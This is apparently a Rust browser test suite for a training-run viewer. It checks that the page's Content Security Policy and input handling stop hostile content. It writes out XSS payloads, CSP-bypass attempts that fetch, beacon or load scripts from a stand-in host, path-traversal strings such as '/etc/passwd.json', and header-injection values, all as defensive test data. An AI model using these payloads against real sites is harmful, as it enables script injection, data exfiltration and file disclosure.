//! What a stranger writes, in a link, a list or a file, stays text; and the page's policy holds should it ever not.

use anyhow::{Result, ensure};
use browser_tests::{Hub, Page, flow, runs};
use percent_encoding::{NON_ALPHANUMERIC, utf8_percent_encode};
use serde_json::json;

const SMALL: &str = "?source=samples&runs=add_d5_l2_h3_t15K_s100001";
const RUN: &str = "add_d5_l2_h3_t15K_s372001";
const IMAGE: &str = "<img src=x onerror=\"window.ran=1\">";

/// By the directive that stops them. Let through, each would leave its mark in `ran`, or a request to another host.
const ATTEMPTS: [(&str, &[&str]); 10] = [
    (
        "script-src-elem",
        &[
            "append('script', {textContent: 'ran.push(1)'})",
            "append('script', {src: 'https://elsewhere.example/x.js'})",
            "append('script', {src: 'data:text/javascript,ran.push(1)'})",
            "append('script', {src: URL.createObjectURL(new Blob(['ran.push(1)'], {type: 'text/javascript'}))})",
            "append('a', {href: 'javascript:ran.push(1)'}).click()",
            "append('iframe', {src: 'javascript:parent.ran.push(1)'})",
            // What is written for a frame comes into the window that it has from the start.
            "append('iframe', {srcdoc: '<script>parent.ran.push(1)</scr' + 'ipt>'})
                .contentWindow.onsecuritypolicyviolation = onsecuritypolicyviolation",
            "import('https://elsewhere.example/x.js')",
            "import('data:text/javascript,ran.push(1)')",
            "worker('await import(\"https://elsewhere.example/x.js\")')",
            "worker('await import(\"data:text/javascript,postMessage(1)\")')",
            "worker('importScripts(\"https://elsewhere.example/x.js\")')",
        ],
    ),
    (
        "script-src-attr",
        &[
            "append('div').innerHTML = '<img src=x onerror=\"ran.push(1)\">'",
            "append('div').innerHTML = '<svg onload=\"ran.push(1)\">'",
            "append('button').setAttribute('onclick', 'ran.push(1)') ?? document.body.lastChild.click()",
        ],
    ),
    (
        "script-src",
        &[
            "eval('ran.push(1)')",
            "new Function('ran.push(1)')()",
            "setTimeout('ran.push(1)')",
            "worker('eval(\"postMessage(1)\")')",
        ],
    ),
    (
        "connect-src",
        &[
            "fetch('https://elsewhere.example/x')",
            "fetch('https://huggingface.co.elsewhere.example/x')",
            "fetch('https://hf.co.elsewhere.example/x')",
            "new WebSocket('wss://elsewhere.example/')",
            "new EventSource('https://elsewhere.example/')",
            "navigator.sendBeacon('https://elsewhere.example/', 'x')",
            "worker('await fetch(\"https://elsewhere.example/x\")')",
            "worker(`new Worker(URL.createObjectURL(new Blob([
                '(' + listen + ')(); fetch(\"https://elsewhere.example/x\").catch(() => 0)'
            ]))).onmessage = ({data}) => postMessage(data)`)",
        ],
    ),
    (
        "frame-src",
        &["append('iframe', {src: 'https://elsewhere.example/'})"],
    ),
    (
        "object-src",
        &["append('object', {data: 'https://elsewhere.example/'})"],
    ),
    (
        "img-src",
        &["append('img', {src: 'https://elsewhere.example/x.png'})"],
    ),
    (
        "style-src-elem",
        &["append('link', {rel: 'stylesheet', href: 'https://elsewhere.example/x.css'})"],
    ),
    (
        "form-action",
        &["append('form', {action: 'https://elsewhere.example/', method: 'post'}).submit()"],
    ),
    (
        "base-uri",
        &["append('base', {href: 'https://elsewhere.example/'}) && fetch('relative')"],
    ),
];

#[tokio::test]
async fn the_policy_stops_what_is_not_the_pages_own() -> Result<()> {
    let hub = Hub::start().await?;
    flow("policy", &hub, async |page| {
        page.open(SMALL).await?.wait_painted().await?;
        for (directive, attempts) in ATTEMPTS {
            for attempt in attempts {
                let (ran, stopped) = attempted(page, attempt).await?;
                assert_eq!(ran, 0, "{attempt}");
                ensure!(
                    stopped.iter().any(|by| by == directive),
                    "{attempt} should be stopped by {directive}: {stopped:?}"
                );
                let strays = hub.strays();
                ensure!(strays.is_empty(), "{attempt} asks {strays:?}");
            }
        }
        page.forgive("Content Security Policy").await?;
        Ok(())
    })
    .await
}

/// How often an attempt left its mark, and the directives that stopped it.
async fn attempted(page: &Page, attempt: &str) -> Result<(u64, Vec<String>)> {
    page.eval(&format!(
        "(async () => {{
            window.ran = [];
            const stopped = [];
            let stop;
            const told = new Promise(then => stop = directive => then(stopped.push(directive)));
            window.onsecuritypolicyviolation = event => stop(event.effectiveDirective);
            const append = (name, properties = {{}}) => {{
                const element = Object.assign(document.createElement(name), properties);
                document.body.append(element);
                return element;
            }};
            // What is stopped in a thread is told there.
            const listen = () =>
                addEventListener('securitypolicyviolation', event => postMessage(event.effectiveDirective));
            // Of the page's own making, as its thread is; it says 1 where it did what it should not.
            const worker = source => {{
                const whole = `const listen = ${{listen}}; listen(); (async () => {{ try {{ ${{source}} }} catch {{}} }})()`;
                new Worker(URL.createObjectURL(new Blob([whole]))).onmessage = ({{data}}) =>
                    data === 1 ? ran.push(1) : stop(data);
            }};
            // Not on behalf of the driver, which the policy does not bind.
            await new Promise(then => setTimeout(then));
            try {{ await ({attempt}); }} catch {{}}
            await Promise.race([told, new Promise(then => setTimeout(then, 10_000))]);
            await new Promise(then => setTimeout(then, 20));
            return [ran.length, stopped];
        }})()"
    ))
    .await
}

/// The app's own script, and no other element that could run or load anything; no link leads elsewhere.
async fn is_harmless(page: &Page, what: &str) -> Result<()> {
    let strange: Vec<String> = page
        .eval(
            "Array.from(document.querySelectorAll(
                    'script:not([data-wasm]), img, svg:not(svg svg), iframe, object, embed, base, form[action], a, link'))
                .filter(element => {
                    const address = element.href ?? (element.matches('svg, form') ? location.href : '');
                    return !address || ![location.origin, 'https://huggingface.co'].includes(new URL(address).origin);
                })
                .map(element => element.outerHTML.slice(0, 200))",
        )
        .await?;
    assert_eq!(strange, [""; 0], "{what}");
    ensure!(
        page.eval::<bool>("window.ran === undefined").await?,
        "{what} ran"
    );
    ensure!(
        page.eval::<bool>("document.documentElement.scrollWidth <= innerWidth")
            .await?,
        "{what} makes the page wider than its window"
    );
    Ok(())
}

#[tokio::test]
async fn nothing_in_a_link_gets_out_of_its_place() -> Result<()> {
    let hub = Hub::start().await?;
    hub.run(RUN, runs::file_of(RUN, 600));
    let long = "a".repeat(10_000);
    let hostile = [
        IMAGE,
        "\"><script>window.ran=1</script>",
        "javascript:window.ran=1",
        "data:text/html,<script>window.ran=1</script>",
        "..",
        "../../../../x.json",
        "a/../../../x.json",
        "a/..%2f..%2fx.json",
        "%2e%2e/%2e%2e/x.json",
        "..\\..\\x.json",
        "//elsewhere.example/x.json",
        "https://elsewhere.example/x.json",
        "me@elsewhere.example/x.json",
        "/etc/passwd.json",
        "x.json?y#z",
        "\u{202e}nosj.x",
        "a\u{200b}\u{2066}.json",
        "\0.json",
        "a\r\nX: y.json",
        "損失/\u{1f4a5}.json",
        &long,
        &format!("{long}.json"),
    ];
    flow("hostile_links", &hub, async |page| {
        for text in hostile {
            let value = utf8_percent_encode(text, NON_ALPHANUMERIC);
            for query in [
                format!("?runs={value},{RUN}&hide={value}&{value}={value}"),
                format!("?runs={RUN}&repo={value}&rev={value}"),
                format!("?repo=me/models&rev={value}&theme={value}"),
                format!("?repo={value}"),
                format!("?model={value}"),
            ] {
                page.open(&query).await?.wait_painted().await?;
                is_harmless(page, &query).await?;
                let told = page
                    .texts(".notice, .legend-message, .problem, #progress")
                    .await?;
                ensure!(
                    !told.concat().contains(['\u{202e}', '\0']),
                    "{query}: {told:?}"
                );
            }
            // Whatever else is in the link, a run that can be drawn is drawn.
            page.open(&format!("?runs={value},{RUN}"))
                .await?
                .wait_painted()
                .await?;
            assert_eq!(page.runs_in("drawn").await?, [RUN], "{text}");
            let told = page.legend().await?;
            ensure!(
                told.iter()
                    .all(|entry| entry.run == RUN || entry.message.is_some()),
                "{told:?}"
            );
        }
        for seen in hub.requests() {
            let parts: Vec<&str> = seen.path.trim_start_matches('/').split('/').collect();
            let is_of_hub = matches!(
                parts[..],
                [_, _, "resolve", _, ..]
                    | ["api", "models", _, _, "tree", _]
                    | ["api", "resolve-cache", "models", ..]
            );
            ensure!(
                is_of_hub || seen.path.starts_with("/api/models?"),
                "{}",
                seen.path
            );
        }
        Ok(())
    })
    .await
}

#[tokio::test]
async fn what_a_list_or_a_file_says_is_shown_as_text() -> Result<()> {
    let hub = Hub::start().await?;
    let long = "a".repeat(900);
    let listed = [IMAGE, "a?b#c%2f", &long, "x&y=z,w", "損失"];
    for name in listed.iter().chain(&["\u{202e}x", "..\\.."]) {
        hub.file(
            "me/models",
            &format!("{name}_train.json"),
            runs::file_of(RUN, 600),
        );
    }
    let mut config = runs::config(RUN, 600);
    config["act_fn"] = json!(IMAGE);
    config[IMAGE] = json!([{"x": "\u{202e}<script>window.ran=1</script>"}]);
    config["hf_repo"] = json!("javascript:window.ran=1");
    config["model_name"] = json!("b".repeat(10_000));
    hub.run(RUN, runs::file_with(&config, &[2.0, 1.0, 0.5]));
    let refused = "add_d5_l2_h3_t15K_s000001";
    hub.run(
        refused,
        format!(r#"{{"TrainingLoss": [{}]}}"#, json!(IMAGE.repeat(1000))),
    );
    flow("hostile_files", &hub, async |page| {
        page.open("?repo=me/models").await?.wait_painted().await?;
        is_harmless(page, "a list").await?;
        let drawn = page.runs_in("drawn").await?;
        for name in listed {
            ensure!(
                drawn.contains(&format!("{name}_train.json")),
                "{name}: {drawn:?}"
            );
        }
        page.reload().await?.wait_painted().await?;
        assert_eq!(page.runs_in("drawn").await?, drawn);
        // Named in the address, each is the same again.
        page.unfold("#chooser").await?;
        page.click_button("Compare all")
            .await?
            .wait_drawn(drawn.len())
            .await?;
        page.reload().await?.wait_painted().await?;
        assert_eq!(page.runs_in("drawn").await?, drawn);
        is_harmless(page, "names of a list").await?;

        page.open(&format!("?model={RUN}&w=1"))
            .await?
            .wait_painted()
            .await?;
        page.unfold(".model details").await?;
        is_harmless(page, "settings").await?;
        let words = page.text(".model").await?.unwrap_or_default();
        for text in [IMAGE, "<script>", "javascript:window.ran=1"] {
            ensure!(
                words.contains(&text.replace('"', "\\\"")) || words.contains(text),
                "{text}: {words:.2000}"
            );
        }

        page.open(&format!("?runs={refused}"))
            .await?
            .wait_painted()
            .await?;
        is_harmless(page, "a refusal").await?;
        let message = page.entry(refused).await?.message.unwrap_or_default();
        ensure!(message.contains("<img") && message.len() < 400, "{message}");
        Ok(())
    })
    .await
}
